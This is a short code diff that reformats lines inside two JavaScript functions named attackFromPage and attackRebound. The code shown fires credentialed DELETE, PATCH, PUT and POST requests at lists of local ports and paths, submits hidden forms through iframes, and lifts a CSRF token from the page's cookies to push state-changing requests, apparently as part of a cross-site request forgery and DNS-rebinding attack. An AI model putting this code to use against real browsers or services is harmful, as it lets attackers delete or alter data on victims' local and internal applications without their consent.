@@ -19,7 +19,11 @@ async function attackFromPage({ ports, paths, bodies }) {
           )
       for (const method of ['DELETE', 'PATCH', 'PUT'])
         ended.push(
-          fetch(url, { method, credentials: 'include', headers: { 'content-type': 'application/json' } }).catch(() => undefined),
+          fetch(url, {
+            method,
+            credentials: 'include',
+            headers: { 'content-type': 'application/json' },
+          }).catch(() => undefined),
         )
       const frame = Object.assign(document.createElement('iframe'), { name: `f${Math.random()}` })
       const form = Object.assign(document.createElement('form'), {
@@ -47,7 +51,10 @@ async function attackRebound({ paths, bodies }) {
   for (const path of paths)
     for (const body of bodies)
       for (const method of ['POST', 'DELETE', 'PUT']) {
-        const headers = { 'content-type': 'application/json', 'x-csrf-token': document.cookie.replace(/.*_csrf=/, '') }
+        const headers = {
+          'content-type': 'application/json',
+          'x-csrf-token': document.cookie.replace(/.*_csrf=/, ''),
+        }
         const answer = await fetch(path, { method, headers, body }).catch(() => undefined)
         if (answer?.ok) through.push(`${method} ${location.host}${path}`)
       }
